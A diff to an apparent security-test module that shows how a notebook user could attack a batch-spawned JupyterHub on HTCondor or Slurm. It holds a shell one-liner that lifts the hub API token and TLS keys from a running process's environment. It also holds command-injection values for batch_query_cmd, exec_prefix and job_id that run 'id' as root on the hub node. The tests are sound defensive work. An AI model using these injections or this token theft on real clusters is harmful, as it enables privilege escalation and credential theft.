@@ -1,9 +1,13 @@
 """What a notebook user can do to a batch-spawned hub from inside their own job (HTC-09, HTC-10).
 
-Used by ``runbooks/htcondor/batchspawner.md`` (and meant for the Slurm page's
-``SlurmSpawner``).  Every function takes a :class:`~jsv.environments.Situation`
-on the submit node with ``.pool`` (a :class:`~jsv.environments.condor.CondorPool`),
-``.token`` (alice's notebook token) and ``.server`` (the hub's server model).
+Used by ``runbooks/htcondor/batchspawner.md`` (``CondorSpawner``) and
+``runbooks/slurm/batchspawner.md`` (``SlurmSpawner``).  Every function takes a
+:class:`~jsv.environments.Situation` on the hub's node with ``.pool`` (a
+:class:`~jsv.environments.condor.CondorPool` or
+:class:`~jsv.environments.slurm.SlurmCluster`: its ``submit`` hub,
+``stock_query_cmd``, ``alices_node()``, ``alices_job()`` and
+``alices_job_transcript()``), ``.token`` (alice's notebook token) and
+``.server`` (the hub's server model).
 
 The attacker's position is exactly a notebook's: a shell as alice on the
 execute node running her job, with the job's own environment
@@ -19,40 +23,47 @@ import json
 from typing import Any
 
 from jsv.claims import Observation
+from jsv.environments.condor import CONDOR_QUERY
 from jsv.environments.machine import Machine
 from jsv.polling import poll_until
 from jsv.redaction import register
 
-CONDOR_QUERY = 'condor_q {job_id} -format "%s, " JobStatus -format "%s" RemoteHost -format "\n" True'
-"""batchspawner 1.3.0's CondorSpawner.batch_query_cmd (batchspawner.py), restored after each attempt."""
 MARKERS = "/root"
 """0700 root on the submit node: only the hub's account (root here) can write a marker in it."""
 IN_THE_JOB = (
     "pid=$(pgrep -u alice -o -f jupyterhub-singleuser) && "
     "eval \"$(tr '\\0' '\\n' </proc/$pid/environ "
-    "| grep -E '^(JUPYTERHUB_API_TOKEN|JUPYTERHUB_API_URL|JUPYTERHUB_SSL_[A-Z_]*|_CONDOR_JOB_AD)=' "
+    "| grep -E '^(JUPYTERHUB_API_TOKEN|JUPYTERHUB_API_URL|JUPYTERHUB_SSL_[A-Z_]*|"
+    "_CONDOR_JOB_AD|SLURM_JOB_ID)=' "
     '| sed "s/=/=\'/; s/\\$/\'/; s/^/export /")" && '
     'cd "$(readlink /proc/$pid/cwd)" && '
-    "cluster=$(sed -n 's/^ClusterId = //p' \"$_CONDOR_JOB_AD\") && "
+    "cluster=${SLURM_JOB_ID:-$(sed -n 's/^ClusterId = //p' \"$_CONDOR_JOB_AD\")} && "
     "tls=${JUPYTERHUB_SSL_CERTFILE:+--cert $JUPYTERHUB_SSL_CERTFILE --key $JUPYTERHUB_SSL_KEYFILE} && "
 )
-ATTACKS = {  # attribute: (body, body that puts the stock value back, marker file)
-    "batch_query_cmd": (
-        {"batch_query_cmd": CONDOR_QUERY + f"; id > {MARKERS}/jsv-marker-query"},
-        {"batch_query_cmd": CONDOR_QUERY},
-        "jsv-marker-query",
-    ),
-    "exec_prefix": (
-        {"exec_prefix": f"id > {MARKERS}/jsv-marker-prefix; sudo -E -u {{username}}"},
-        {"exec_prefix": "sudo -E -u {username}"},
-        "jsv-marker-prefix",
-    ),
-    "job_id": (
-        {"job_id": f"$(id > {MARKERS}/jsv-marker-jobid)@CLUSTER@"},
-        {"job_id": "@CLUSTER@"},
-        "jsv-marker-jobid",
-    ),
-}
+
+
+def attacks(query: str) -> dict[str, tuple[dict[str, str], dict[str, str], str]]:
+    """attribute: (body, body that puts the stock value back, marker file), for stock query ``query``."""
+    return {
+        "batch_query_cmd": (
+            {"batch_query_cmd": query + f"; id > {MARKERS}/jsv-marker-query"},
+            {"batch_query_cmd": query},
+            "jsv-marker-query",
+        ),
+        "exec_prefix": (
+            {"exec_prefix": f"id > {MARKERS}/jsv-marker-prefix; sudo -E -u {{username}}"},
+            {"exec_prefix": "sudo -E -u {username}"},
+            "jsv-marker-prefix",
+        ),
+        "job_id": (
+            {"job_id": f"$(id > {MARKERS}/jsv-marker-jobid)@CLUSTER@"},
+            {"job_id": "@CLUSTER@"},
+            "jsv-marker-jobid",
+        ),
+    }
+
+
+ATTACKS = attacks(CONDOR_QUERY)
 
 
 def _servers(pool: Any) -> dict[str, Any]:
@@ -60,9 +71,8 @@ def _servers(pool: Any) -> dict[str, Any]:
 
 
 def alices_node(pool: Any) -> Machine:
-    """The execute node running alice's notebook job (read from the queue)."""
-    host = pool.submit.run("condor_q alice -constraint JobStatus==2 -af RemoteHost").stdout.split()[-1]
-    return {"worker": pool.worker, "jupyter-node": pool.jupyter_node}[host.split("@")[-1]]
+    """The node running alice's notebook job (the pool reads it from its queue)."""
+    return pool.alices_node()
 
 
 def post_from_the_job(node: Machine, name: str, body: Any) -> tuple[int, str]:
@@ -102,7 +112,7 @@ def notebook_sets_hub_commands(target: Any, wait: float = 20) -> Observation:
         pool.submit.run(f"ls -ld {MARKERS}; touch {MARKERS}/by-alice", user="alice").transcript,
     ]
     value: dict[str, Any] = {}
-    for key, (attack, restore, marker) in ATTACKS.items():
+    for key, (attack, restore, marker) in attacks(pool.stock_query_cmd).items():
         status, shown = post_from_the_job(node, f"set-{key}", attack)
         written, seen = _marker(pool, marker, wait)
         lines += [shown, seen]
@@ -149,28 +159,15 @@ def spawn_with_options(target: Any, options: dict[str, str], timeout: float = 18
     poll_until(
         lambda: _servers(pool).get("", {}), lambda s: bool(s.get("ready")), timeout=timeout, interval=1
     )
-    ads = json.loads(
-        pool.submit.run(
-            "condor_q alice -constraint JobStatus==2 -json -attributes JobBatchName,RequestMemory,RemoteHost"
-        ).stdout
-        or "[{}]"
-    )
-    ad = ads[-1]
-    shown = pool.submit.run(
-        "condor_q alice -af:r ClusterId JobBatchName RequestMemory RemoteHost Requirements"
-    )
+    value = pool.alices_job()
     return Observation(
-        {
-            "JobBatchName": ad.get("JobBatchName"),
-            "RequestMemory": ad.get("RequestMemory"),
-            "ran on": (ad.get("RemoteHost") or "").split("@")[-1],
-        },
+        value,
         "\n".join(
             [
                 stop[2].transcript,
                 f"$ cat /tmp/alice-options.json\n{json.dumps(options)}",
                 started.transcript,
-                shown.transcript,
+                pool.alices_job_transcript(),
             ]
         ),
     )
